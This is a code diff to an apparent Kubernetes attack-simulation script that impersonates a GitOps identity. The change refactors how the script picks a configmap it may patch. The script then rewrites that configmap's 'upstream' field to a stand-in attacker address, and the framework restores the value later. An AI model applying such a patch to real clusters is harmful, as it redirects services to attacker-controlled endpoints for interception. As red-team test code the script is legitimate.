@@ -32,9 +32,13 @@ def script(ctx: context.AttackContext) -> base.Script:
     victim = ctx.victim(base.Part.GITOPS)
     thief = ctx.act_as(victim)
     homes = [space for space in ctx.namespaces() if ctx.may(victim, "PATCH", paths.core("configmaps", space, "a"))]
-    maps = paths.core("configmaps", ctx.rng.choice(homes))
-    names = [found for _, found in ctx.known(maps) if found != "kube-root-ca.crt"]
-    path = f"{maps}/{ctx.rng.choice(names)}"
+    candidates = [
+        f"{maps}/{found}"
+        for maps in (paths.core("configmaps", space) for space in homes)
+        for _, found in ctx.known(maps)
+        if found != "kube-root-ca.crt"
+    ]
+    path = ctx.rng.choice(candidates)
     ctx.restore_later(path, {"data": {"upstream": None}})
     yield thief.get(path)
     yield thief.patch(path, {"data": {"upstream": "https://203.0.113.77"}}, content_type=session.MERGE_PATCH)
